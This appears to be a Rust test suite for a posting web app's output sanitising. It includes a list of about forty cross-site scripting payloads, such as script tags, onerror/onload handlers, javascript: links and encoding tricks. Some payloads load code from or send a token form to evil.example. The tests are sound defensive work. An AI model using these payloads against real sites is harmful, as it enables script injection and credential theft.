//! What people write, and what becomes of it: never anything that runs, loads or misleads.

use crate::support::{Visitor, Wall};
use scraper::ElementRef;

on_both![
    nothing_that_is_written_runs,
    nothing_hostile_in_a_name_or_title_runs,
    what_is_written_is_shown_as_it_was_written,
    markdown_becomes_what_it_means,
    a_heading_in_a_post_is_no_heading_of_the_page,
    an_image_is_never_loaded_from_elsewhere,
    a_link_elsewhere_vouches_for_nothing,
    an_address_in_plain_words_becomes_a_link,
    a_dangerous_link_becomes_words,
    typed_markup_survives_a_refusal,
    code_is_marked_by_classes_alone,
];

/// The elements that words may become, and the attributes that those may have.
const ELEMENTS: [&str; 27] = [
    "a",
    "bdi",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "table",
    "ul",
    "mark",
    "sub",
    "sup",
];
const TABLES: [&str; 5] = ["thead", "tbody", "tr", "th", "td"];
const ATTRIBUTES: [&str; 9] = [
    "href", "rel", "dir", "class", "lang", "start", "title", "id", "tabindex",
];

const HOSTILE: [&str; 42] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" style=\"position:fixed\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=token><button>Go</button></form>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/x.png)",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
];

fn nothing_that_is_written_runs(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    for words in HOSTILE {
        // Every page that comes of it is checked by the ground rules as well.
        let form = ana.open("/").form("/posts").set("body", words);
        let preview = form.press("act", "preview").send();
        let page = if preview.status == 422 {
            continue;
        } else {
            preview.follow()
        };
        harmless(page.first("section.preview .e-content"), words);
        let published = page.form("/posts").submit();
        let id = published.landed_on();
        harmless(published.first(&format!("article#p{id} .e-content")), words);
    }
}

fn nothing_hostile_in_a_name_or_title_runs(wall: Wall) {
    let owner = Visitor::owner(&wall, "Olga");
    for words in HOSTILE {
        let form = owner
            .open("/rooms")
            .form("/rooms")
            .set("title", words)
            .set("about", words);
        let answer = form.send();
        if answer.status == 303 {
            let room = answer.follow();
            assert_eq!(room.all("h1 *").len(), 0, "{words}: markup in a title");
        }
        let stranger = Visitor::new(&wall);
        let refused = stranger
            .open("/login")
            .form("/login")
            .set("pseudonym", words)
            .send();
        assert!(
            [303, 422].contains(&refused.status),
            "{words}: {}",
            refused.status
        );
    }
    owner.open("/rooms");
}

fn what_is_written_is_shown_as_it_was_written(wall: Wall) {
    let plain = [
        "1 < 2 & 3 > 2",
        "\"quoted\" & 'quoted'",
        "&lt;b&gt; &amp;amp;",
        "a%20b+c",
        "<b>bold?</b>",
    ];
    let ana = Visitor::named(&wall, "Ana");
    for words in plain {
        let form = ana
            .open("/")
            .form("/posts")
            .set("body", words)
            .press("act", "preview");
        let page = form.submit();
        assert_eq!(
            page.form("/posts").value("body"),
            Some(words),
            "the composer changed the words"
        );
        let id = page.form("/posts").submit().landed_on();
        let edit = ana
            .open(&format!("/posts/{id}/edit"))
            .form(&format!("/posts/{id}/edit"));
        assert_eq!(
            edit.value("body"),
            Some(words),
            "the editor changed the words"
        );
    }
    let id = ana.write("1 < 2 & <b>this</b>");
    assert_eq!(ana.open("/").entry(id).words, "1 < 2 & <b>this</b>");
}

fn markdown_becomes_what_it_means(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let cases = [
        ("*soft*", "em", "soft"),
        ("**loud**", "strong", "loud"),
        ("`let x`", "code", "let x"),
        ("```\nlet y\n```", "pre code", "let y"),
        ("> said", "blockquote", "said"),
        ("- item", "ul li", "item"),
        ("1. first", "ol li", "first"),
    ];
    for (words, element, text) in cases {
        let id = ana.write(words);
        let page = ana.open(&format!("/posts/{id}"));
        assert_eq!(
            page.text(&format!("article#p{id} .e-content {element}")),
            text
        );
    }
}

fn a_heading_in_a_post_is_no_heading_of_the_page(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    // The ground rules allow one h1 a page; the day is an h2.
    ana.write("# LOUD\n\n## less loud\n\nsetext\n======");
    let page = ana.open("/");
    assert!(page.says("LOUD"));
    assert!(!page.has(".e-content h1, .e-content h2"));
}

fn an_image_is_never_loaded_from_elsewhere(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let id = ana.write("![a cat](https://example.com/cat.png)");
    let page = ana.open("/");
    assert!(!page.has("main img"), "the page would call another server");
    assert!(
        page.entry(id).words.contains("a cat"),
        "what the image shows is lost"
    );
}

fn a_link_elsewhere_vouches_for_nothing(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let id = ana.write("[a shop](https://example.com/?a=1&b=2) and <https://example.org/>");
    let page = ana.open("/");
    let links = page.all(&format!("article#p{id} .e-content a"));
    let addresses: Vec<_> = links.iter().filter_map(|link| link.attr("href")).collect();
    assert_eq!(
        addresses,
        ["https://example.com/?a=1&b=2", "https://example.org/"]
    );
    for link in links {
        let rel: Vec<&str> = link.attr("rel").unwrap_or_default().split(' ').collect();
        assert!(
            rel.contains(&"nofollow") && rel.contains(&"ugc"),
            "rel={rel:?}"
        );
        assert_eq!(link.attr("target"), None);
    }
}

fn an_address_in_plain_words_becomes_a_link(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let id = ana.write("See https://example.com/page, or (https://example.org/x).");
    let page = ana.open("/");
    let links = page.all(&format!("article#p{id} .e-content a"));
    let addresses: Vec<_> = links.iter().filter_map(|link| link.attr("href")).collect();
    assert_eq!(
        addresses,
        ["https://example.com/page", "https://example.org/x"]
    );
    assert_eq!(
        page.entry(id).words,
        "See https://example.com/page, or (https://example.org/x)."
    );
    let code = ana.write("`https://example.com/`");
    let page = ana.open("/");
    assert!(
        !page.has(&format!("article#p{code} .e-content a")),
        "code is not to be linked"
    );
}

fn a_dangerous_link_becomes_words(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let id = ana.write("[click me](javascript:alert(1))");
    let page = ana.open("/");
    assert!(page.entry(id).words.contains("click me"));
    assert!(!page.has(&format!("article#p{id} .e-content a")));
}

fn typed_markup_survives_a_refusal(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    for words in HOSTILE
        .iter()
        .filter(|words| !words.contains(|c: char| c.is_control()))
    {
        let form = ana.open("/").form("/posts").set("body", words);
        let refused = form.without("token").send();
        assert_eq!(refused.status, 422);
        assert_eq!(refused.form("/posts").value("body"), Some(*words));
    }
    let lines = "\nfirst\n\n  third, indented\n";
    let refused = ana
        .open("/")
        .form("/posts")
        .set("body", lines)
        .without("token")
        .send();
    let kept = refused
        .form("/posts")
        .value("body")
        .map(|body| body.replace("\r\n", "\n"));
    assert_eq!(kept.as_deref(), Some(lines), "line breaks were lost");
}

/// Fails if the words became an element or an attribute that words never become.
pub fn harmless(content: ElementRef<'_>, words: &str) {
    for element in content.descendent_elements() {
        let name = element.value().name();
        assert!(
            ELEMENTS.contains(&name) || TABLES.contains(&name),
            "{words}: became {name}"
        );
        for (attribute, value) in element.value().attrs() {
            assert!(
                ATTRIBUTES.contains(&attribute),
                "{words}: became {attribute}={value}"
            );
        }
        let address = element.attr("href").unwrap_or("#");
        let known = ["http://", "https://", "mailto:", "/", "#"];
        assert!(
            known.iter().any(|scheme| address.starts_with(scheme)),
            "{words}: leads to {address}"
        );
    }
}

fn code_is_marked_by_classes_alone(wall: Wall) {
    let ana = Visitor::named(&wall, "Ana");
    let code = "fn main() { // <b>\n    let x = \"1\";\n}";
    let post = ana.write(&format!("```rust\n{code}\n```"));
    let page = Visitor::new(&wall).open(&format!("/posts/{post}"));
    let block = page.first(".e-content pre code.language-rust");
    assert_eq!(block.text().collect::<String>().trim_end(), code);
    let marked = |class: &str| {
        let found = page.all(&format!(".e-content pre span.{class}"));
        found
            .iter()
            .map(|mark| mark.text().collect::<String>())
            .collect::<Vec<_>>()
    };
    assert_eq!(marked("k"), ["fn", "let"]);
    assert_eq!(marked("c"), ["// <b>"]);
    assert_eq!(marked("s"), ["\"1\""]);
    assert!(!page.has("[style], style, .e-content b"));
    // What is not known stays as it is.
    for fence in ["klingon", ""] {
        let post = ana.write(&format!("```{fence}\nfn main() {{}}\n```"));
        let page = ana.open(&format!("/posts/{post}"));
        assert!(!page.has(".e-content pre span"), "{fence}");
    }
}
